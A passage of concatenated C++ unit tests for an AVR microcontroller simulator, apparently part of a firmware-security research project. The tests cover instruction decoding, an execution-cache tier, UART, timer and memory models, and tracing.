  EXPECT_TRUE(hi_pending);  // still queued
}

}  // namespace
}  // namespace mavr
