// Edge cases of the AVR core: decode fuzzing, skip interactions, extended
// addressing (RAMPZ/EIND), SP wrap behaviour, and the SREG bit ops.
#include <gtest/gtest.h>

#include "avr/cpu.hpp"
#include "avr/decode.hpp"
#include "support/rng.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::Op;
using namespace mavr::toolchain;

TEST(DecodeFuzz, NeverThrowsAndSizesAreSane) {
  support::Rng rng(0xF022);
  for (int i = 0; i < 200'000; ++i) {
    const std::uint16_t w1 = static_cast<std::uint16_t>(rng.next());
    const std::uint16_t w2 = static_cast<std::uint16_t>(rng.next());
    const avr::Instr in = avr::decode(w1, w2);
    ASSERT_TRUE(in.size_words == 1 || in.size_words == 2);
    if (in.op != Op::Invalid) {
      ASSERT_LT(in.rd, 32);
      ASSERT_LT(in.rr, 32);
      ASSERT_LT(in.bit, 8);
    }
  }
}

TEST(ExecFuzz, RandomProgramsNeverCrashTheHost) {
  // Execute random flash contents: the core must either run, fault
  // cleanly or stop — never corrupt the simulator itself.
  support::Rng rng(0xEC5EC5);
  for (int trial = 0; trial < 20; ++trial) {
    Cpu cpu(avr::atmega2560());
    support::Bytes image(4096);
    for (auto& b : image) b = static_cast<std::uint8_t>(rng.next());
    cpu.flash().program(image);
    cpu.reset();
    cpu.run(50'000);
    ASSERT_TRUE(cpu.state() == avr::CpuState::Running ||
                cpu.state() == avr::CpuState::Faulted ||
                cpu.state() == avr::CpuState::Stopped);
  }
}

class EdgeTest : public ::testing::Test {
 protected:
  EdgeTest() : cpu_(avr::atmega2560()) {}

  void load(std::initializer_list<std::uint16_t> words) {
    support::Bytes bytes;
    for (std::uint16_t w : words) {
      bytes.push_back(static_cast<std::uint8_t>(w & 0xFF));
      bytes.push_back(static_cast<std::uint8_t>(w >> 8));
    }
    cpu_.flash().erase();
    cpu_.flash().program(bytes);
    cpu_.reset();
  }

  void step(int n) {
    for (int i = 0; i < n; ++i) cpu_.step();
  }

  Cpu cpu_;
};

TEST_F(EdgeTest, ElpmReadsAboveSixtyFourK) {
  // Plant a marker byte above the 64 KiB boundary and fetch it via
  // RAMPZ:Z (the path __init uses to copy .data on big images).
  support::Bytes page(256, 0);
  page[3] = 0xBE;
  cpu_.flash().program_page(0x20000, page);
  load({enc_imm(Op::Ldi, 24, 0x02), enc_out(avr::kIoRampz, 24),
        enc_imm(Op::Ldi, 30, 0x03), enc_imm(Op::Ldi, 31, 0x00),
        enc_lpm(Op::Elpm, 25)});
  // program() erased… reload the marker page after load().
  support::Bytes page2(256, 0);
  page2[3] = 0xBE;
  cpu_.flash().program_page(0x20000, page2);
  step(5);
  EXPECT_EQ(cpu_.reg(25), 0xBE);
}

TEST_F(EdgeTest, ElpmIncCarriesIntoRampz) {
  load({enc_imm(Op::Ldi, 24, 0x00), enc_out(avr::kIoRampz, 24),
        enc_imm(Op::Ldi, 30, 0xFF), enc_imm(Op::Ldi, 31, 0xFF),
        enc_lpm(Op::ElpmInc, 25)});
  step(5);
  EXPECT_EQ(cpu_.reg_pair(30), 0x0000);
  EXPECT_EQ(cpu_.data().raw(avr::kAddrRampz), 0x01);
}

TEST_F(EdgeTest, SbicSkipsOnIoBit) {
  // I/O 0x15 (data 0x35) is plain RAM; clear => SBIC skips.
  load({enc_sbi_cbi(Op::Cbi, 0x15, 3), enc_skip_io(Op::Sbic, 0x15, 3),
        enc_no_operand(Op::Break), enc_no_operand(Op::Nop)});
  step(3);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Running);  // break skipped
  // And SBIS skips when set.
  load({enc_sbi_cbi(Op::Sbi, 0x15, 3), enc_skip_io(Op::Sbis, 0x15, 3),
        enc_no_operand(Op::Break), enc_no_operand(Op::Nop)});
  step(3);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Running);
}

TEST_F(EdgeTest, SkipNotTakenExecutesNext) {
  load({enc_imm(Op::Ldi, 24, 0x00), enc_skip_reg(Op::Sbrs, 24, 0),
        enc_no_operand(Op::Break)});
  step(3);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Stopped);  // bit clear: no skip
}

TEST_F(EdgeTest, EijmpCombinesEindAndZ) {
  load({enc_imm(Op::Ldi, 24, 0x01), enc_out(avr::kIoEind, 24),
        enc_imm(Op::Ldi, 30, 0x22), enc_imm(Op::Ldi, 31, 0x11),
        enc_no_operand(Op::Eijmp)});
  step(5);
  EXPECT_EQ(cpu_.pc(), 0x11122u);
}

TEST_F(EdgeTest, BsetBclrDriveAllFlags) {
  load({enc_bset_bclr(Op::Bset, avr::kC), enc_bset_bclr(Op::Bset, avr::kT),
        enc_bset_bclr(Op::Bset, avr::kI), enc_bset_bclr(Op::Bclr, avr::kC)});
  step(4);
  EXPECT_FALSE(cpu_.flag(avr::kC));
  EXPECT_TRUE(cpu_.flag(avr::kT));
  EXPECT_TRUE(cpu_.flag(avr::kI));
}

TEST_F(EdgeTest, StackPointerWrapsHarmlessly) {
  // Pushing with SP at 0 wraps into the top of the data space; the core
  // keeps running (real hardware corrupts state the same way) — relevant
  // because V1-style attacks run the stack off its end.
  load({enc_push(0), enc_push(0), enc_push(0), enc_no_operand(Op::Break)});
  cpu_.set_sp(0x0001);
  step(4);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu_.sp(), 0xFFFE);  // wrapped 16-bit SP
}

TEST_F(EdgeTest, SwapHalvesAndAndiOri) {
  load({enc_imm(Op::Ldi, 24, 0xA5), enc_one_reg(Op::Swap, 24),
        enc_imm(Op::Andi, 24, 0xF0), enc_imm(Op::Ori, 24, 0x0C)});
  step(4);
  EXPECT_EQ(cpu_.reg(24), 0x5C);
}

TEST_F(EdgeTest, CpiBranchlessRangeCheckIdiom) {
  // The firmware's clamp idiom: cpi; brcs (unsigned less-than).
  load({enc_imm(Op::Ldi, 20, 97), enc_imm(Op::Cpi, 20, 97),
        enc_branch(Op::Brbs, avr::kC, 1),  // brcs +1 (97 < 97 is false)
        enc_no_operand(Op::Break), enc_no_operand(Op::Nop)});
  step(4);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Stopped);  // not taken
  load({enc_imm(Op::Ldi, 20, 50), enc_imm(Op::Cpi, 20, 97),
        enc_branch(Op::Brbs, avr::kC, 1), enc_no_operand(Op::Break),
        enc_no_operand(Op::Nop)});
  step(4);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Running);  // taken, break skipped
}

TEST_F(EdgeTest, MulClearsCarryOnSmallProduct) {
  load({enc_imm(Op::Ldi, 24, 2), enc_imm(Op::Ldi, 25, 3),
        enc_two_reg(Op::Mul, 24, 25)});
  step(3);
  EXPECT_FALSE(cpu_.flag(avr::kC));
  EXPECT_FALSE(cpu_.flag(avr::kZ));
  load({enc_imm(Op::Ldi, 24, 0), enc_imm(Op::Ldi, 25, 99),
        enc_two_reg(Op::Mul, 24, 25)});
  step(3);
  EXPECT_TRUE(cpu_.flag(avr::kZ));
}

TEST_F(EdgeTest, SpmAndWdrAreBenign) {
  load({enc_no_operand(Op::Wdr), enc_no_operand(Op::Spm),
        enc_no_operand(Op::Sleep), enc_no_operand(Op::Break)});
  step(4);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Stopped);
}

TEST_F(EdgeTest, RetiSetsInterruptFlag) {
  load({enc_no_operand(Op::Reti)});
  cpu_.set_sp(0x21F0);
  cpu_.data().set_raw(0x21F1, 0x00);
  cpu_.data().set_raw(0x21F2, 0x00);
  cpu_.data().set_raw(0x21F3, 0x10);
  step(1);
  EXPECT_TRUE(cpu_.flag(avr::kI));
  EXPECT_EQ(cpu_.pc(), 0x10u);
}

}  // namespace
}  // namespace mavr
