// Superblock-tier regression suite (DESIGN.md §16): reflash-safe
// invalidation, bit-identity against the interpreter over long runs and
// across rerandomization epochs, interrupt-delivery latency through the
// fn-pointer IRQ lines, and campaign-level CSV equality with the tier
// forced on and off.
#include <gtest/gtest.h>

#include <cstring>

#include "avr/cpu.hpp"
#include "avr/timer.hpp"
#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "defense/patcher.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "support/rng.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::Op;

const firmware::Firmware& testapp_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  return fw;
}

support::Bytes to_image(const std::vector<std::uint16_t>& words) {
  support::Bytes image;
  for (std::uint16_t w : words) {
    image.push_back(static_cast<std::uint8_t>(w & 0xFF));
    image.push_back(static_cast<std::uint8_t>(w >> 8));
  }
  return image;
}

TEST(TierInvalidation, PatchedFlashByteNeverRunsStaleCode) {
  // Translate a block, reprogram flash with one instruction changed, and
  // require the next run to execute the patched code. A cache that missed
  // the generation bump would replay the old immediate.
  Cpu cpu(avr::atmega2560());
  cpu.set_exec_tier(true);
  std::vector<std::uint16_t> words;
  words.push_back(toolchain::enc_imm(Op::Ldi, 24, 0x05));
  words.push_back(toolchain::enc_no_operand(Op::Break));
  cpu.flash().program(to_image(words));
  cpu.reset();
  cpu.run(100);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu.data().raw(24), 0x05);
  EXPECT_GE(cpu.tier_stats().blocks_translated, 1u);

  const std::uint64_t gen_before = cpu.flash().generation();
  words[0] = toolchain::enc_imm(Op::Ldi, 24, 0x07);  // patch one byte
  cpu.flash().program(to_image(words));
  EXPECT_GT(cpu.flash().generation(), gen_before);

  cpu.reset();
  cpu.run(100);
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu.data().raw(24), 0x07);  // stale code would leave 0x05
  EXPECT_GE(cpu.tier_stats().invalidations, 1u);
}

TEST(TierInterrupt, DeliveryLatencyMatchesInterpreterExactly) {
  // A timer line through the fn-pointer IRQ path against a tight RJMP
  // spin: interrupts must land on the identical cycle under tier and
  // interpreter, sampled at deliberately uneven budgets so a one-cycle
  // latency drift cannot hide behind a period boundary.
  std::vector<std::uint16_t> words;
  words.push_back(toolchain::enc_rel_jump(Op::Rjmp, 3));  // reset -> main
  words.push_back(toolchain::enc_no_operand(Op::Nop));
  words.push_back(toolchain::enc_rel_jump(Op::Rjmp, 3));  // slot 1 -> isr
  words.push_back(toolchain::enc_no_operand(Op::Nop));
  words.push_back(toolchain::enc_bset_bclr(Op::Bset, 7));  // main: SEI
  words.push_back(toolchain::enc_rel_jump(Op::Rjmp, -1));  // spin
  words.push_back(toolchain::enc_one_reg(Op::Inc, 24));    // isr: count
  words.push_back(toolchain::enc_no_operand(Op::Reti));
  const support::Bytes image = to_image(words);

  const auto sample = [&](bool exec_tier, std::uint64_t budget,
                          std::uint64_t* out_irqs) {
    Cpu cpu(avr::atmega2560());
    cpu.set_exec_tier(exec_tier);
    avr::Timer timer(cpu.io(), /*period=*/1000);
    cpu.set_irq_line(
        1, [](void* t) { return static_cast<avr::Timer*>(t)->take_irq(); },
        &timer);
    cpu.flash().program(image);
    cpu.reset();
    cpu.run(budget);
    *out_irqs = cpu.interrupts_taken();
    // r24 is the ISR's counter; it can lag interrupts_taken() by one when
    // the budget lands mid-ISR, so it is compared across modes, not
    // against the count.
    return std::tuple{cpu.cycles(), cpu.interrupts_taken(), cpu.pc(),
                      cpu.sp(), cpu.sreg(), cpu.data().raw(24)};
  };

  std::uint64_t total_irqs = 0;
  for (const std::uint64_t budget :
       {997ull, 1003ull, 1010ull, 5021ull, 29'989ull}) {
    std::uint64_t tier_irqs = 0, interp_irqs = 0;
    EXPECT_EQ(sample(true, budget, &tier_irqs),
              sample(false, budget, &interp_irqs))
        << "budget " << budget;
    EXPECT_EQ(tier_irqs, interp_irqs);
    total_irqs += tier_irqs;
  }
  EXPECT_GT(total_irqs, 30u);  // the spin really was interrupted
}

struct CoreState {
  std::uint64_t cycles;
  std::uint64_t retired;
  std::uint64_t irqs;
  std::uint32_t pc;
  std::uint16_t sp;
  std::uint8_t sreg;
  bool operator==(const CoreState&) const = default;
};

CoreState core_state(const sim::Board& board) {
  const Cpu& cpu = board.cpu();
  return {cpu.cycles(), cpu.instructions_retired(), cpu.interrupts_taken(),
          cpu.pc(),     cpu.sp(),                   cpu.sreg()};
}

TEST(TierIdentity, LongTestappRunMatchesInterpreterIncludingAllRam) {
  sim::Board tier_board, ref_board;
  tier_board.cpu().set_exec_tier(true);
  ref_board.cpu().set_exec_tier(false);
  tier_board.flash_image(testapp_fw().image.bytes);
  ref_board.flash_image(testapp_fw().image.bytes);
  tier_board.run_cycles(20'000'000);
  ref_board.run_cycles(20'000'000);
  EXPECT_EQ(core_state(tier_board), core_state(ref_board));
  EXPECT_EQ(std::memcmp(tier_board.cpu().data().raw_data(),
                        ref_board.cpu().data().raw_data(),
                        tier_board.cpu().data().size()),
            0);
  EXPECT_GT(tier_board.cpu().tier_stats().block_instructions, 1'000'000u);
}

TEST(TierInvalidation, RerandomizedReflashLoopStaysBitIdentical) {
  // Twenty rerandomization epochs on the same boards: every reflash must
  // invalidate (one epoch bump each), retranslate, and keep the tier
  // bit-identical to the interpreter on the fresh image.
  const toolchain::SymbolBlob blob =
      toolchain::SymbolBlob::from_image(testapp_fw().image);
  support::Rng rng(77);

  sim::Board tier_board, ref_board;
  tier_board.cpu().set_exec_tier(true);
  ref_board.cpu().set_exec_tier(false);

  const std::uint64_t invalidations0 =
      tier_board.cpu().tier_stats().invalidations;
  for (int epoch = 0; epoch < 20; ++epoch) {
    const support::Bytes image =
        defense::randomize_image(testapp_fw().image.bytes, blob, rng).image;
    tier_board.flash_image(image);
    ref_board.flash_image(image);
    tier_board.run_cycles(300'000);
    ref_board.run_cycles(300'000);
    ASSERT_EQ(core_state(tier_board), core_state(ref_board))
        << "epoch " << epoch;
    ASSERT_EQ(std::memcmp(tier_board.cpu().data().raw_data(),
                          ref_board.cpu().data().raw_data(),
                          tier_board.cpu().data().size()),
              0)
        << "epoch " << epoch;
  }
  // First flash lands on a fresh cache; the other 19 must each invalidate.
  EXPECT_GE(tier_board.cpu().tier_stats().invalidations - invalidations0,
            19u);
}

TEST(TierCampaign, V2CampaignCsvIsIdenticalTierOnAndOff) {
  // End-to-end equality where it matters for the paper's numbers: a small
  // V2 board campaign exported to CSV must not change a single byte when
  // the execution tier is toggled.
  const campaign::SimFixture& fx =
      campaign::make_sim_fixture(firmware::testapp(/*vulnerable=*/true));
  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kV2;
  config.trials = 6;
  config.jobs = 2;
  config.seed = 0x7E57;

  config.exec_tier = true;
  const campaign::CampaignStats tier_stats =
      campaign::run_campaign(config, fx);
  const std::string tier_csv = campaign::to_csv(config, tier_stats);

  config.exec_tier = false;
  const campaign::CampaignStats interp_stats =
      campaign::run_campaign(config, fx);
  std::string interp_csv = campaign::to_csv(config, interp_stats);

  // The config column set is identical (exec_tier is not an exported
  // column), so byte-compare is meaningful.
  EXPECT_EQ(tier_csv, interp_csv);
  EXPECT_EQ(tier_stats.trials, interp_stats.trials);
}

}  // namespace
}  // namespace mavr
