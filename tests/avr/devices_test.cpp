// Peripheral model tests: UART pacing/status, output-port tracing (feed
// line + servos), input ports, the I/O bus and the memory models.
#include <gtest/gtest.h>

#include <utility>
#include <vector>

#include "avr/cpu.hpp"
#include "avr/gpio.hpp"
#include "avr/timer.hpp"
#include "avr/uart.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::Op;
using namespace mavr::toolchain;

class DeviceTest : public ::testing::Test {
 protected:
  DeviceTest()
      : cpu_(avr::atmega2560()),
        uart_(cpu_.io(), avr::usart0_config(16'000'000, 115200)) {}

  void load(std::initializer_list<std::uint16_t> words) {
    support::Bytes bytes;
    for (std::uint16_t w : words) {
      bytes.push_back(static_cast<std::uint8_t>(w & 0xFF));
      bytes.push_back(static_cast<std::uint8_t>(w >> 8));
    }
    cpu_.flash().erase();
    cpu_.flash().program(bytes);
    cpu_.reset();
  }

  Cpu cpu_;
  avr::Uart uart_;
};

TEST_F(DeviceTest, UartRxIsPacedAtBaudRate) {
  // 115200 baud, 10 bits/byte at 16 MHz -> ~1388 cycles per byte.
  const std::uint8_t msg[] = {0x42};
  uart_.host_send(msg);
  // Poll loop: lds status; sbrs bit7; rjmp back; lds data; break.
  load({enc_lds(24, 0xC0).first, enc_lds(24, 0xC0).second,
        enc_skip_reg(Op::Sbrs, 24, 7), enc_rel_jump(Op::Rjmp, -4),
        enc_lds(25, 0xC6).first, enc_lds(25, 0xC6).second,
        enc_no_operand(Op::Break)});
  cpu_.run(10'000);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu_.reg(25), 0x42);
  // The byte must not have been readable before one byte-time elapsed.
  EXPECT_GT(cpu_.cycles(), uart_.cycles_for_bytes(1));
}

TEST_F(DeviceTest, UartTxCollects) {
  load({enc_imm(Op::Ldi, 24, 0xAA), enc_sts(0xC6, 24).first,
        enc_sts(0xC6, 24).second, enc_imm(Op::Ldi, 24, 0xBB),
        enc_sts(0xC6, 24).first, enc_sts(0xC6, 24).second,
        enc_no_operand(Op::Break)});
  cpu_.run(100);
  EXPECT_EQ(uart_.host_take_tx(), support::Bytes({0xAA, 0xBB}));
  EXPECT_TRUE(uart_.host_take_tx().empty());  // drained
}

TEST_F(DeviceTest, UartBacklogAndTiming) {
  support::Bytes burst(100, 0x55);
  uart_.host_send(burst);
  EXPECT_EQ(uart_.rx_backlog(), 100u);
  // 100 bytes at 115200 baud = 100 * 1388 cycles.
  EXPECT_NEAR(static_cast<double>(uart_.cycles_for_bytes(100)),
              100.0 * 16e6 * 10 / 115200, 100.0);
}

TEST(UartConfig, UnpaceableRatesRejected) {
  // Regression: a zero baud (or zero clock) used to divide by zero when
  // deriving cycles_per_byte; a baud above clock*10 silently produced a
  // zero-cycle byte time (infinite line rate). All three must throw.
  Cpu cpu(avr::atmega2560());
  EXPECT_THROW(avr::Uart(cpu.io(), avr::usart0_config(16'000'000, 0)),
               support::PreconditionError);
  EXPECT_THROW(avr::Uart(cpu.io(), avr::usart0_config(0, 115200)),
               support::PreconditionError);
  EXPECT_THROW(avr::Uart(cpu.io(), avr::usart0_config(16, 115200)),
               support::PreconditionError);
}

TEST(Timer, ZeroPeriodRejected) {
  // Regression: a zero period set next_ = 0, and the first tick()'s
  // catch-up loop (`next_ += period_`) never advanced — an infinite loop
  // on the very first cycle. Now refused at construction.
  Cpu cpu(avr::atmega2560());
  EXPECT_THROW(avr::Timer(cpu.io(), 0), support::PreconditionError);
  avr::Timer ok(cpu.io(), 1);  // smallest legal period still works
  ok.tick(10);
  EXPECT_TRUE(ok.pending());
  EXPECT_EQ(ok.fires(), 10u);
}

namespace {
struct RecordingTap : avr::UartTap {
  std::vector<std::pair<std::uint64_t, std::uint8_t>> tx;
  std::vector<std::pair<std::uint64_t, std::uint8_t>> rx;
  std::uint64_t underruns = 0;
  void on_tx(std::uint64_t cycle, std::uint8_t byte) override {
    tx.emplace_back(cycle, byte);
  }
  void on_rx(std::uint64_t cycle, std::uint8_t byte) override {
    rx.emplace_back(cycle, byte);
  }
  void on_rx_underrun(std::uint64_t) override { ++underruns; }
};
}  // namespace

TEST_F(DeviceTest, UartUnderrunReadsIdleLine) {
  // Regression: reading UDRn with nothing received used to return a
  // fabricated 0x00 that a MAVLink parser could take for payload. An 8N1
  // line idles at mark, so the read must see 0xFF — and be counted.
  RecordingTap tap;
  uart_.set_tap(&tap);
  load({enc_lds(25, 0xC6).first, enc_lds(25, 0xC6).second,
        enc_no_operand(Op::Break)});
  cpu_.run(100);
  EXPECT_EQ(cpu_.reg(25), avr::kUartIdleLine);
  EXPECT_EQ(uart_.rx_underruns(), 1u);
  EXPECT_EQ(tap.underruns, 1u);
  EXPECT_TRUE(tap.rx.empty());
}

TEST_F(DeviceTest, UartTapSeesLineActivity) {
  RecordingTap tap;
  uart_.set_tap(&tap);
  const std::uint8_t msg[] = {0x42};
  uart_.host_send(msg);
  load({enc_imm(Op::Ldi, 24, 0xAA), enc_sts(0xC6, 24).first,
        enc_sts(0xC6, 24).second,
        enc_lds(24, 0xC0).first, enc_lds(24, 0xC0).second,
        enc_skip_reg(Op::Sbrs, 24, 7), enc_rel_jump(Op::Rjmp, -4),
        enc_lds(25, 0xC6).first, enc_lds(25, 0xC6).second,
        enc_no_operand(Op::Break)});
  cpu_.run(10'000);
  ASSERT_EQ(tap.tx.size(), 1u);
  EXPECT_EQ(tap.tx[0].second, 0xAA);
  ASSERT_EQ(tap.rx.size(), 1u);
  EXPECT_EQ(tap.rx[0].second, 0x42);
  // The RX byte became visible only after one byte-time on the line.
  EXPECT_GE(tap.rx[0].first, uart_.cycles_for_bytes(1));
  EXPECT_EQ(uart_.rx_underruns(), 0u);
  uart_.set_tap(nullptr);
}

TEST_F(DeviceTest, UartBackToBackHostSendsPaceContiguously) {
  // Two host_send calls issued at the same instant must land one byte-time
  // apart (the pacing cursor carries across calls), not both at t+1.
  const std::uint8_t first[] = {0x11};
  const std::uint8_t second[] = {0x22};
  uart_.host_send(first);
  uart_.host_send(second);
  load({enc_lds(24, 0xC0).first, enc_lds(24, 0xC0).second,
        enc_skip_reg(Op::Sbrs, 24, 7), enc_rel_jump(Op::Rjmp, -4),
        enc_lds(25, 0xC6).first, enc_lds(25, 0xC6).second,
        enc_lds(24, 0xC0).first, enc_lds(24, 0xC0).second,
        enc_skip_reg(Op::Sbrs, 24, 7), enc_rel_jump(Op::Rjmp, -4),
        enc_lds(26, 0xC6).first, enc_lds(26, 0xC6).second,
        enc_no_operand(Op::Break)});
  cpu_.run(10'000);
  EXPECT_EQ(cpu_.state(), avr::CpuState::Stopped);
  EXPECT_EQ(cpu_.reg(25), 0x11);
  EXPECT_EQ(cpu_.reg(26), 0x22);
  // Finished only after TWO byte-times (second byte paced behind the
  // first), but promptly after that — not re-based to a later cursor.
  EXPECT_GT(cpu_.cycles(), uart_.cycles_for_bytes(2));
  EXPECT_LT(cpu_.cycles(), uart_.cycles_for_bytes(2) + 200);
  EXPECT_EQ(uart_.rx_underruns(), 0u);
}

TEST_F(DeviceTest, OutputPortRecordsHistory) {
  avr::OutputPort port(cpu_.io(), 0x160, /*record_history=*/true);
  load({enc_imm(Op::Ldi, 24, 1), enc_sts(0x160, 24).first,
        enc_sts(0x160, 24).second, enc_imm(Op::Ldi, 24, 2),
        enc_sts(0x160, 24).first, enc_sts(0x160, 24).second,
        enc_no_operand(Op::Break)});
  cpu_.run(100);
  ASSERT_EQ(port.history().size(), 2u);
  EXPECT_EQ(port.history()[0].value, 1);
  EXPECT_EQ(port.history()[1].value, 2);
  EXPECT_LT(port.history()[0].cycle, port.history()[1].cycle);
  EXPECT_EQ(port.value(), 2);
  EXPECT_EQ(port.write_count(), 2u);
}

TEST_F(DeviceTest, FeedLineTracksLastWrite) {
  avr::OutputPort feed(cpu_.io(), 0x150, /*record_history=*/false);
  EXPECT_EQ(feed.last_write_cycle(), 0u);
  load({0x0000, 0x0000, enc_imm(Op::Ldi, 24, 1), enc_sts(0x150, 24).first,
        enc_sts(0x150, 24).second, enc_no_operand(Op::Break)});
  cpu_.run(100);
  EXPECT_GT(feed.last_write_cycle(), 0u);
  EXPECT_TRUE(feed.history().empty());  // history off
}

TEST_F(DeviceTest, InputPortReadableByFirmware) {
  avr::InputPort sensor(cpu_.io(), 0x120);
  sensor.set(0x7E);
  load({enc_lds(24, 0x120).first, enc_lds(24, 0x120).second,
        enc_no_operand(Op::Break)});
  cpu_.run(100);
  EXPECT_EQ(cpu_.reg(24), 0x7E);
}

TEST_F(DeviceTest, DuplicateHandlerRejected) {
  avr::InputPort a(cpu_.io(), 0x170);
  EXPECT_THROW(avr::InputPort(cpu_.io(), 0x170), support::PreconditionError);
}

TEST(ProgramMemory, EraseProgramGeneration) {
  avr::ProgramMemory flash(avr::atmega2560());
  EXPECT_EQ(flash.word(0), 0xFFFF);
  const std::uint64_t g0 = flash.generation();
  flash.program(support::Bytes({0x12, 0x34, 0x56, 0x78}));
  EXPECT_EQ(flash.word(0), 0x3412);
  EXPECT_EQ(flash.word(1), 0x7856);
  EXPECT_GT(flash.generation(), g0);
  flash.erase();
  EXPECT_EQ(flash.word(0), 0xFFFF);
}

TEST(ProgramMemory, ByteViewIsLittleEndian) {
  avr::ProgramMemory flash(avr::atmega2560());
  flash.program(support::Bytes({0xAB, 0xCD}));
  EXPECT_EQ(flash.byte(0), 0xAB);
  EXPECT_EQ(flash.byte(1), 0xCD);
}

TEST(ProgramMemory, PcWrapsAtFlashEnd) {
  avr::ProgramMemory flash(avr::atmega2560());
  EXPECT_EQ(flash.word(flash.size_words()), flash.word(0));
}

TEST(ProgramMemory, OversizeImageRejected) {
  avr::ProgramMemory flash(avr::atmega2560());
  EXPECT_THROW(flash.program(support::Bytes(256 * 1024 + 1)),
               support::PreconditionError);
  EXPECT_THROW(flash.program_page(1, support::Bytes(4)),
               support::PreconditionError);  // odd address
}

TEST(DataMemory, SnapshotWraps) {
  avr::Cpu cpu(avr::atmega2560());
  cpu.data().set_raw(0x21FF, 0xEE);
  cpu.data().set_raw(0x0000, 0x11);
  const support::Bytes snap = cpu.data().snapshot(0x21FF, 2);
  EXPECT_EQ(snap[0], 0xEE);
  EXPECT_EQ(snap[1], 0x11);  // wrapped to address 0
}

TEST(Eeprom, ReadWriteBounds) {
  avr::Eeprom eeprom(avr::atmega2560());
  EXPECT_EQ(eeprom.size(), 4096u);
  EXPECT_EQ(eeprom.read(0), 0xFF);  // erased state
  eeprom.write(123, 0x42);
  EXPECT_EQ(eeprom.read(123), 0x42);
  EXPECT_THROW(eeprom.read(4096), support::PreconditionError);
  EXPECT_THROW(eeprom.write(4096, 0), support::PreconditionError);
}

TEST(Mcu, SpecConstants) {
  const avr::McuSpec& mega = avr::atmega2560();
  EXPECT_EQ(mega.flash_bytes, 256u * 1024);
  EXPECT_EQ(mega.flash_words(), 128u * 1024);
  EXPECT_EQ(mega.ramend(), 0x21FFu);
  EXPECT_EQ(mega.pc_push_bytes, 3);
  const avr::McuSpec& master = avr::atmega1284p();
  EXPECT_EQ(master.flash_bytes, 128u * 1024);
  EXPECT_EQ(master.pc_push_bytes, 2);
}

}  // namespace
}  // namespace mavr
