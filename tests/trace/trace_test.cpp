// Observability layer tests: Tracer hook plumbing in the interpreter, the
// ring-buffer execution trace with its exports, edge-triggered watchpoints
// (including the V2 stealthy-pivot detection from the paper §IV-C), the
// per-function profiler and the bundled Session.
#include <gtest/gtest.h>

#include <vector>

#include "attack/attacks.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "toolchain/encode.hpp"
#include "trace/events.hpp"
#include "trace/multi.hpp"
#include "trace/profiler.hpp"
#include "trace/session.hpp"
#include "trace/watchpoints.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::Op;
using namespace mavr::toolchain;

trace::Event ev(trace::EventKind kind, std::uint64_t cycle) {
  trace::Event e;
  e.kind = kind;
  e.cycle = cycle;
  return e;
}

TEST(ExecutionTrace, RingEvictsOldestAndCounts) {
  trace::ExecutionTrace trace(4, trace::kAllEvents);
  for (std::uint64_t c = 0; c < 6; ++c) {
    trace.record(ev(trace::EventKind::Call, c));
  }
  EXPECT_EQ(trace.size(), 4u);
  EXPECT_EQ(trace.total_recorded(), 6u);
  EXPECT_EQ(trace.dropped(), 2u);
  for (std::size_t i = 0; i < 4; ++i) {
    EXPECT_EQ(trace.at(i).cycle, i + 2);  // oldest two evicted
  }
  trace.clear();
  EXPECT_EQ(trace.size(), 0u);
}

TEST(ExecutionTrace, MaskFiltersKinds) {
  trace::ExecutionTrace trace(8, trace::mask_of(trace::EventKind::Call));
  trace.record(ev(trace::EventKind::Ret, 1));
  trace.record(ev(trace::EventKind::Call, 2));
  trace.record(ev(trace::EventKind::Load, 3));
  ASSERT_EQ(trace.size(), 1u);
  EXPECT_EQ(trace.at(0).kind, trace::EventKind::Call);
  // The default mask excludes the per-instruction firehose.
  EXPECT_EQ(trace::kDefaultMask & trace::mask_of(trace::EventKind::Retire), 0u);
  EXPECT_EQ(trace::kDefaultMask & trace::mask_of(trace::EventKind::Load), 0u);
  EXPECT_NE(trace::kDefaultMask & trace::mask_of(trace::EventKind::Ret), 0u);
}

TEST(ExecutionTrace, JsonlAndCsvExports) {
  trace::ExecutionTrace trace(8, trace::kAllEvents);
  trace::Event e = ev(trace::EventKind::Ret, 42);
  e.pc_words = 7;
  e.a = 0x15D64;   // masked target
  e.b = 0x35D64;   // raw popped value: wrapped
  trace.record(e);
  const std::string jsonl = trace.jsonl();
  EXPECT_NE(jsonl.find("\"kind\":\"ret\""), std::string::npos);
  EXPECT_NE(jsonl.find("\"cycle\":42"), std::string::npos);
  EXPECT_NE(jsonl.find("\"wrapped\":true"), std::string::npos);
  const std::string csv = trace.csv();
  EXPECT_EQ(csv.rfind("kind,cycle,pc_words,op,a,b\n", 0), 0u);
  EXPECT_NE(csv.find("ret,42,7"), std::string::npos);
}

// Records raw hook invocations straight off the Cpu, independent of any
// concrete sink — tests the interpreter-side plumbing.
struct HookLog : avr::Tracer {
  struct CallEdge {
    std::uint32_t from, to, ret;
  };
  struct RetEdge {
    std::uint32_t from, to, raw;
    bool reti;
  };
  std::vector<CallEdge> calls;
  std::vector<RetEdge> rets;
  std::vector<std::pair<std::uint16_t, std::uint16_t>> sp_changes;
  std::uint64_t retired = 0;

  void on_retire(const Cpu&, std::uint32_t, const avr::Instr&,
